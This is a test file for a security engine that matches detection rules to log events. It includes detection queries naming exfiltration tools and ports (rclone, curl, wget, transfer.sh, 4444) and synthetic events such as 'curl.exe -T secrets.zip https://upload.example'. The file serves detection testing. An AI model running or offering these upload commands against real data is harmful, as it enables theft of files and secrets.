import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseKql, parseEql, requiredValues } from '../../src/query/index.js';
import { CategoryIndex } from '../../src/rules/run/category-index.js';

test('requiredValues finds the categories a query insists on, and gives up when it does not', () => {
  assert.deepEqual(requiredValues(parseKql('event.category: process and process.name: rclone.exe'), 'event.category'), ['process']);
  assert.deepEqual(requiredValues(parseKql('event.category: (network or dns) and destination.port: 53'), 'event.category')?.sort(), ['dns', 'network']);
  assert.equal(requiredValues(parseKql('event.category: process or process.name: x'), 'event.category'), undefined);
  assert.equal(requiredValues(parseKql('not event.category: process'), 'event.category'), undefined);
  assert.equal(parseEql('process where process.name == "x"').kind, 'event');
});

test('an event is offered to the rules of its categories and to the unconstrained ones, once each', () => {
  const idx = new CategoryIndex<string>();
  idx.add('proc', { field: 'event.category', values: ['process'] });
  idx.add('net', { field: 'event.category', values: ['Network'] });
  idx.add('any', undefined);
  idx.add('both', { field: 'event.category', values: ['process', 'network'] });
  idx.add('s3', { field: 'event.provider', values: ['s3.amazonaws.com'] });
  const seen = (category: unknown) => {
    const out: string[] = [];
    idx.forEvent({ event: { category } } as never, (r) => out.push(r));
    return out.sort();
  };
  assert.deepEqual(seen('network'), ['any', 'both', 'net']);
  assert.deepEqual(seen(['network', 'process']), ['any', 'both', 'net', 'proc']);
  assert.deepEqual(seen(undefined), ['any']);
  const out: string[] = [];
  idx.forEvent({ event: { category: 'network', provider: 'S3.amazonaws.com' } } as never, (r) => out.push(r));
  assert.deepEqual(out.sort(), ['any', 'both', 'net', 's3']);
});

test('rules constrained only by addresses or CIDR blocks are not indexed by their spelling', async () => {
  const { requiredTerm } = await import('../../src/rules/run/category-index.js');
  const rule = (query: string) => ({ logic: { type: 'query', language: 'kuery', query: parseKql(query) } }) as never;
  assert.equal(requiredTerm(rule('destination.ip: "10.0.0.0/8"')), undefined);
  assert.equal(requiredTerm(rule('destination.ip: "::1"')), undefined);
  assert.deepEqual(requiredTerm(rule('dns.question.registered_domain: ("mega.nz" or "transfer.sh")')), { field: 'dns.question.registered_domain', values: ['mega.nz', 'transfer.sh'] });
});

test('flat events, mixed-case values and arrays with non-scalar elements are indexed by their scalar values', () => {
  const idx = new CategoryIndex<string>();
  idx.add('proc', { field: 'event.category', values: ['process'] });
  idx.add('port', { field: 'destination.port', values: ['4444'] });
  const seen = (event: Record<string, unknown>) => {
    const out: string[] = [];
    idx.forEvent(event as never, (r) => out.push(r));
    return out.sort();
  };
  assert.deepEqual(seen({ 'event.category': 'PROCESS', 'destination.port': 4444 }), ['port', 'proc']);
  assert.deepEqual(seen({ 'event.category': [{ name: 'process' }, ['process'], null, 'process'] }), ['proc']);
  assert.deepEqual(seen({ 'event.category': { process: true }, 'destination.port': '4445' }), []);
  assert.deepEqual(seen({ 'event.category': undefined, 'destination.port': [4444, 4444] }), ['port']);
});

/** A query rule, as the loader makes it, for the index's functions. */
const kqlRule = (query: string, type = 'query') => ({ logic: { type, language: 'kuery', query: parseKql(query) } }) as never;
const eqlRule = (query: string) => ({ logic: { type: 'eql', eql: parseEql(query) } }) as never;

test('rules without time effects are offered events by the most specific terms their query requires', async () => {
  const { offerTerms } = await import('../../src/rules/run/category-index.js');
  assert.deepEqual(offerTerms(kqlRule('event.category: process and event.type: start and process.name: (curl.exe or wget.exe)'), false), [
    { field: 'process.name', values: ['curl.exe', 'wget.exe'] },
  ]);
  // Either spelling of the program may be what the event has: it is offered under both.
  assert.deepEqual(offerTerms(eqlRule('process where process.name : "nslookup.exe" or process.pe.original_name == "nslookup.exe"'), false), [
    { field: 'process.name', values: ['nslookup.exe'] },
    { field: 'process.pe.original_name', values: ['nslookup.exe'] },
  ]);
  // The smaller of two required terms; coarse fields (kind, OS, direction) never.
  assert.deepEqual(offerTerms(kqlRule('host.os.type: windows and user.name: (a or b or c) and process.name: x.exe'), false), [{ field: 'process.name', values: ['x.exe'] }]);
  assert.deepEqual(offerTerms(kqlRule('event.category: network and host.os.type: windows and network.direction: egress'), false), [{ field: 'event.category', values: ['network'] }]);
});

test('addresses, half-covered disjunctions and rules with time effects keep the coarse term', async () => {
  const { offerTerms } = await import('../../src/rules/run/category-index.js');
  const coarse = [{ field: 'event.category', values: ['network'] }];
  assert.deepEqual(offerTerms(kqlRule('event.category: network and destination.ip: "10.0.0.0/8"'), false), coarse);
  assert.deepEqual(offerTerms(kqlRule('event.category: network and (process.name: a.exe or destination.port > 5)'), false), coarse, 'one branch without a term');
  assert.deepEqual(offerTerms(kqlRule('event.category: network and process.name: smbclient', 'new_terms'), true), coarse, 'which events a new_terms rule is offered is part of its meaning');
  assert.equal(offerTerms(kqlRule('process.args_count > 3 or not process.name: x'), false), undefined, 'nothing to index by: every event');
});

test('numbers are looked up by value, as terms compare them', () => {
  const idx = new CategoryIndex<string>();
  idx.add('smtp', [{ field: 'destination.port', values: ['25', '465'] }]);
  idx.add('exp', [{ field: 'file.size', values: ['1e3'] }]);
  const seen = (event: Record<string, unknown>) => {
    const out: string[] = [];
    idx.forEvent(event as never, (r) => out.push(r));
    return out.sort();
  };
  assert.deepEqual(seen({ 'destination.port': 25 }), ['smtp']);
  assert.deepEqual(seen({ 'destination.port': '465.0' }), ['smtp']);
  assert.deepEqual(seen({ 'destination.port': ' 25' }), ['smtp']);
  assert.deepEqual(seen({ 'destination.port': 26 }), []);
  assert.deepEqual(seen({ 'file.size': 1000 }), ['exp']);
  assert.deepEqual(seen({ 'file.size': '1000', 'destination.port': [25, '25.0'] }), ['exp', 'smtp']);
});

test('every event a rule of Elastic or of the content pack matches is offered to it (the generated month and events written to match)', async (t) => {
  const { FIXTURE_RULES, fixturesPresent } = await import('./helpers.js');
  if (!fixturesPresent) return t.skip(`${FIXTURE_RULES} is absent (../shared is not next to this checkout)`);
  const { loadRules } = await import('../../src/rules/index.js');
  const { BUILTIN_CONTENT_DIR, findContent } = await import('../../src/engine/content-loader.js');
  const { offerTerms, queryParts } = await import('../../src/rules/run/category-index.js');
  const { hasTimeEffects, readsEvents } = await import('../../src/rules/run/rule-interest.js');
  const { queryWithCategory } = await import('../../src/rules/executors/event-matcher.js');
  const { smallOrganisation } = await import('../engine/replay-helpers.js');
  const { readFileSync } = await import('node:fs');
  // Elastic's rules and the content pack's (the pack's versions of Elastic's ML rules give way, as in a replay).
  const rules = loadRules(findContent([FIXTURE_RULES], true).ruleFiles, { overridableDir: BUILTIN_CONTENT_DIR }).loaded.filter(readsEvents);
  const events: Array<Record<string, unknown>> = [];
  for (const file of (await smallOrganisation()).files) {
    for (const line of readFileSync(file, 'utf8').split('\n')) if (line) events.push(JSON.parse(line) as Record<string, unknown>);
  }
  const start = (name: string, extra: Record<string, unknown>) => ({
    '@timestamp': '2026-10-01T00:00:00Z', event: { category: ['process'], type: ['start'] }, host: { os: { type: 'windows' } }, process: { name, ...extra },
  });
  // Programs renamed on disk (only the PE name says what they are), upper case, arrays of categories.
  events.push(
    start('svc.exe', { pe: { original_name: 'nslookup.exe' }, args: ['svc.exe', '-querytype=txt', 'x.example'], command_line: 'svc.exe -querytype=txt x.example' }),
    start('NSLOOKUP.EXE', { args: ['nslookup', '-type=TXT', 'x.example'], command_line: 'nslookup -type=TXT x.example' }),
    start('curl.exe', { args: ['curl.exe', '-T', 'secrets.zip', 'https://upload.example'], command_line: 'curl.exe -T secrets.zip https://upload.example' }),
    start('backup.exe', { pe: { original_name: 'rclone.exe' }, args: ['backup.exe', 'copy', 'C:\\data', 'remote:bucket'], command_line: 'backup.exe copy C:\\data remote:bucket' }),
  );
  const matchedRules = new Set<string>();
  let matched = 0;
  for (const rule of rules) {
    const terms = offerTerms(rule, hasTimeEffects(rule));
    const parts = queryParts(rule).map((p) => queryWithCategory(p.query, p.category, p.categoryField));
    const index = new CategoryIndex<string>();
    index.add(rule.name, terms);
    for (const event of events) {
      let passes = false;
      try {
        passes = parts.some((p) => p.test(event as never));
      } catch {
        continue; // the engine offers such events whole and reports the failure
      }
      if (!passes) continue;
      matched++;
      matchedRules.add(rule.name);
      let offered = false;
      index.forEvent(event as never, () => (offered = true));
      assert.ok(offered, `${rule.name} matches but is not offered ${JSON.stringify(event).slice(0, 300)}`);
    }
  }
  // The written events are meant for these rules, whose offer terms an `or` across two fields makes.
  for (const name of ['Nslookup Run with an Explicit Record Type or Retry Option', 'Rclone Copying Data to a Remote Storage Target', 'File Upload with curl or wget']) {
    assert.ok(matchedRules.has(name), `${name} matched one of the written events (matched: ${[...matchedRules].join('; ')})`);
  }
  assert.ok(matched > 3);
});
